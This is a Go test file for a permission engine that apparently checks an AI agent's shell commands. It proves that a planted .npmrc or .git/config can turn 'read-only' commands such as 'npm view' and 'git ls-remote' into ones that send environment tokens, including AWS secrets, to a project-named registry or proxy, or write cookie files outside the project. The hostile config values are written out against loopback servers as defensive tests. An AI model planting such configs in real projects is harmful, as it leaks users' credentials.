package engine_test

import (
	"context"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/permopa/permopa/engine"
	"github.com/permopa/permopa/permission"
	"github.com/permopa/permopa/settings"
)

// A project .npmrc that names its own registry and writes ${NAME} into a
// value sends the environment's NAME there with `npm view`, a read-only
// command by its words (docs/shell.md, "What a program reads besides its
// argv"). The real npm is run against a registry on loopback first: the
// token arrives, so the case proves the effect; then the decision on
// that project must not be ALLOW, under an allow rule for the command
// too, while the usual CI setup (the token scoped to registry.npmjs.org)
// stays read-only.
func TestProjectNpmrcCannotSendEnvironmentElsewhere(t *testing.T) {
	t.Parallel()
	root, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	home, p := filepath.Join(root, "home"), filepath.Join(root, "p")
	writeModeFile(t, filepath.Join(p, "package.json"), `{"name": "p", "version": "1.0.0"}`, 0o644)

	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	var mu sync.Mutex
	var seen []string
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		seen = append(seen, r.Header.Get("Authorization"))
		mu.Unlock()
		http.NotFound(w, r)
	})}
	go srv.Serve(ln)
	t.Cleanup(func() { srv.Close() })
	host := ln.Addr().String()
	hostile := "registry=http://" + host + "/\n//" + host + "/:_authToken=${PLANTED_TOKEN}\n"

	if _, err := exec.LookPath("npm"); err == nil {
		writeModeFile(t, filepath.Join(p, ".npmrc"), hostile, 0o644)
		ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
		defer cancel()
		cmd := exec.CommandContext(ctx, "npm", "view", "left-pad")
		cmd.Dir = p
		cmd.Env = append(os.Environ(), "HOME="+home, "PLANTED_TOKEN=s3cr3t-from-env",
			"npm_config_cache="+filepath.Join(root, "cache"), "npm_config_update_notifier=false")
		out, _ := cmd.CombinedOutput()
		mu.Lock()
		got := strings.Join(seen, " ")
		mu.Unlock()
		if !strings.Contains(got, "s3cr3t-from-env") {
			t.Fatalf("real npm view did not send the variable to the project's registry: the case proves nothing (headers %q)\n%s", got, out)
		}
	}

	ctx := context.Background()
	eng, err := newEngine(ctx, engine.WithSettings(settings.Settings{Home: home, Cwd: p,
		Rules: []permission.Rule{mustRule(t, "Bash(npm view:*)"), mustRule(t, "Bash(npm ls:*)"), mustRule(t, "Bash(yarn info:*)")}}))
	if err != nil {
		t.Fatal(err)
	}
	decide := func(cmd, mode string) permission.Decision {
		return eng.Decide(ctx, map[string]any{"tool_name": "Bash", "tool_input": map[string]any{"command": cmd},
			"cwd": p, "permission_mode": mode})
	}
	for _, c := range []struct{ body, cmd string }{
		{hostile, "npm view left-pad"},
		{hostile, "yarn info left-pad"},
		{"@x:registry=http://" + host + "/\nuser-agent=${AWS_SECRET_ACCESS_KEY}\n", "npm view @x/y"},
		{"https-proxy=http://" + host + "/\nstrict-ssl=false\n", "npm view left-pad"},
	} {
		writeModeFile(t, filepath.Join(p, ".npmrc"), c.body, 0o644)
		if d := decide(c.cmd, "plan"); d.Behavior == permission.Allow {
			t.Errorf("plan: %q with .npmrc %q: ALLOW (%s)", c.cmd, c.body, d.Message)
		}
		if d := decide(c.cmd, "default"); d.Behavior != permission.Ask || !d.BypassImmune || !strings.Contains(d.Message, ".npmrc") {
			t.Errorf("default, allow rule: %q with .npmrc %q: %s/%s (%s), want a safety ASK naming .npmrc", c.cmd, c.body, d.Behavior, d.Step, d.Message)
		}
	}
	writeModeFile(t, filepath.Join(p, ".npmrc"), "//registry.npmjs.org/:_authToken=${NPM_TOKEN}\nsave-exact=true\n", 0o644)
	for _, cmd := range []string{"npm view left-pad", "npm ls"} {
		if d := decide(cmd, "plan"); d.Behavior != permission.Allow || d.Step != permission.StepReadOnly {
			t.Errorf("the CI token setup: plan: %q: %s/%s (%s), want read-only", cmd, d.Behavior, d.Step, d.Message)
		}
	}
}

// git ls-remote and git remote show are network reads by their words; a
// repository's http settings can make them read and write files anywhere
// (cookie files) or carry the user's credentials through a proxy the
// project names. The real git is run against servers on loopback first:
// it writes the cookie jar outside the project and sends its request to
// the proxy; then neither command is read-only in that repository.
func TestRepositoryHTTPConfigIsNotReadOnly(t *testing.T) {
	t.Parallel()
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git not installed")
	}
	root, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	home, w := filepath.Join(root, "home"), filepath.Join(root, "w")
	env := append(os.Environ(), "HOME="+home, "GIT_CONFIG_NOSYSTEM=1", "GIT_CONFIG_GLOBAL=/dev/null", "GIT_TERMINAL_PROMPT=0")
	git := func(args ...string) ([]byte, error) {
		ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
		defer cancel()
		cmd := exec.CommandContext(ctx, "git", args...)
		cmd.Dir, cmd.Env = w, env
		return cmd.CombinedOutput()
	}
	if err := os.MkdirAll(w, 0o755); err != nil {
		t.Fatal(err)
	}
	if out, err := git("init", "-q"); err != nil {
		t.Fatalf("git init: %v\n%s", err, out)
	}
	var mu sync.Mutex
	var seen []string
	serve := func() string {
		ln, err := net.Listen("tcp", "127.0.0.1:0")
		if err != nil {
			t.Fatal(err)
		}
		srv := &http.Server{Handler: http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
			mu.Lock()
			seen = append(seen, r.Method+" "+r.Host)
			mu.Unlock()
			// A dumb-HTTP remote with no refs: git exits normally (and
			// saves its cookies).
			http.SetCookie(rw, &http.Cookie{Name: "planted", Value: "x", Path: "/"})
			rw.Header().Set("Content-Type", "text/plain")
			rw.WriteHeader(http.StatusOK)
		})}
		go srv.Serve(ln)
		t.Cleanup(func() { srv.Close() })
		return ln.Addr().String()
	}
	remote, proxy := serve(), serve()
	jar := filepath.Join(root, "outside", "jar")
	if err := os.MkdirAll(filepath.Dir(jar), 0o755); err != nil {
		t.Fatal(err)
	}
	cases := []struct{ name, config, proof string }{
		{"cookie jar", "[remote \"origin\"]\n\turl = http://" + remote + "/r.git\n[http]\n\tcookieFile = " + jar + "\n\tsaveCookies = true\n", "jar"},
		{"proxy", "[remote \"origin\"]\n\turl = http://unreachable.invalid/r.git\n[http]\n\tproxy = http://" + proxy + "\n", "GET unreachable.invalid"},
	}
	for _, c := range cases {
		if err := os.WriteFile(filepath.Join(w, ".git/config"), []byte("[core]\n\trepositoryformatversion = 0\n\tbare = false\n"+c.config), 0o644); err != nil {
			t.Fatal(err)
		}
		git("ls-remote", "origin")
		mu.Lock()
		got := strings.Join(seen, ",")
		mu.Unlock()
		if c.proof == "jar" {
			if _, err := os.Stat(jar); err != nil {
				t.Fatalf("%s: real git ls-remote wrote no cookie file outside the project: the case proves nothing (%v; requests %s)", c.name, err, got)
			}
		} else if !strings.Contains(got, c.proof) {
			t.Fatalf("%s: real git ls-remote did not go through the project's proxy: the case proves nothing (requests %s)", c.name, got)
		}
	}

	ctx := context.Background()
	eng, err := newEngine(ctx, engine.WithSettings(settings.Settings{Home: home, Cwd: w,
		Rules: []permission.Rule{mustRule(t, "Bash(git ls-remote:*)")}}))
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range cases {
		if err := os.WriteFile(filepath.Join(w, ".git/config"), []byte("[core]\n\tbare = false\n"+c.config), 0o644); err != nil {
			t.Fatal(err)
		}
		for _, cmd := range []string{"git ls-remote origin", "git remote show origin"} {
			d := eng.Decide(ctx, map[string]any{"tool_name": "Bash", "tool_input": map[string]any{"command": cmd}, "cwd": w, "permission_mode": "plan"})
			if d.Behavior == permission.Allow {
				t.Errorf("%s: plan: %q: ALLOW (%s)", c.name, cmd, d.Message)
			}
		}
		d := eng.Decide(ctx, map[string]any{"tool_name": "Bash", "tool_input": map[string]any{"command": "git ls-remote origin"}, "cwd": w, "permission_mode": "default"})
		if d.Behavior != permission.Ask || !d.BypassImmune || !strings.Contains(d.Message, ".git/config") {
			t.Errorf("%s: default, allow rule: %s/%s (%s), want a safety ASK naming .git/config", c.name, d.Behavior, d.Step, d.Message)
		}
	}
}
